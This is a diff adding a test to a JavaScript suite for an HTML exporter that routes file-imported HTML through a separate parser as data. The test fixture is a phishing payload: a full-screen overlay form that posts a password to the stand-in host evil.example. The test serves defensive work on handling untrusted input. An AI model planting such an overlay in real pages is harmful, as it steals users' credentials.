@@ -69,6 +69,31 @@ describe("exportHtml", () => {
     );
   });
 
+  test("html imported from a file goes through a parse method of the page's own, as a file's data, never through the page's methods", () => {
+    const phishing =
+      '<div style="position:fixed;inset:0"><form action="https://evil.example/steal"><input type="password"></form></div>';
+    const project = createProject({
+      id: "p-files",
+      media: { source: { kind: "url", url: "a.webm" } },
+      lanes: [
+        {
+          id: "a",
+          events: [
+            { id: "t1", type: "text", start: 1, end: 4, options: { text: "", html: phishing }, origin: "file" },
+            { id: "f2", type: "footnote", start: 6, end: 8, options: { text: "Mine" } },
+          ],
+        },
+      ],
+    });
+    const { code, skipped } = exportHtml(project);
+    expect(skipped).toEqual([]);
+    const data = pageData(code) as ReturnType<typeof pageData> & { fromFiles: { method: string; options: object }[] };
+    expect(data.events).toEqual([{ method: "footnote", options: { start: 6, end: 8, text: "Mine" } }]);
+    expect(data.fromFiles).toEqual([{ method: "text", options: { start: 1, end: 4, text: phishing } }]);
+    expect(code).toContain('Popcorn.parser("parseSceneFiles", "JSON", function (file) {');
+    expect(code).toContain("pop.parseSceneFiles({ text: JSON.stringify(data.fromFiles) });");
+  });
+
   test("a text with </script> or <!-- cannot end or change a script block, and reads back as written", () => {
     const { code } = exportHtml(SCENE);
     // Three blocks: the data, the runtime, the page's code; nothing else opens or closes one.
